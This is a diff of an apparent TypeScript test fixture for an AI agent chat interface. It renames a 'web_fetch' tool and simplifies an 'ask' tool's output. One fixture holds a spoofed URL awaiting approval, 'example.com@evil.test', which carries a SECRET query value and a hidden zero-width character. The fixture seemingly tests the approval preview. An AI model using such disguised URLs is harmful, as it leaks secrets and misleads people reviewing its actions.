@@ -43,7 +43,7 @@ export const waitingScenes: Readonly<Record<string, ViewState>> = {
   answered: state([
     user('Fix the failing test'),
     answerWith([
-      call({ name: 'ask', subject: question.question, preview: { kind: 'question', question }, output: 'The user chose: “pnpm”.\nThe user wrote: and remove the other lock file' }),
+      call({ name: 'ask', subject: question.question, preview: { kind: 'question', question }, output: 'pnpm\nand remove the other lock file' }),
       { type: 'text', text: 'Then I remove `package-lock.json`.' },
     ]),
   ]),
@@ -64,9 +64,9 @@ export const waitingScenes: Readonly<Record<string, ViewState>> = {
   begin: state([], { title: 'New Chat', usage: '', instructions }),
   address: waiting(
     [
-      call({ name: 'web_fetch', subject: 'https://docs.example.com/guide?page=2', output: 'The guide.', preview: { kind: 'url', url: 'https://docs.example.com/guide?page=2' } }),
+      call({ name: 'fetch', subject: 'https://docs.example.com/guide?page=2', output: 'The guide.', preview: { kind: 'url', url: 'https://docs.example.com/guide?page=2' } }),
       call({
-        name: 'web_fetch',
+        name: 'fetch',
         subject: 'https://example.com@evil.test',
         status: 'awaiting_approval',
         preview: { kind: 'url', url: 'https://example.com@evil.test:8443/a/long/path/that/goes/on?q=SECRET\u200B&next=https%3A%2F%2Fexample.com%2F#end' },
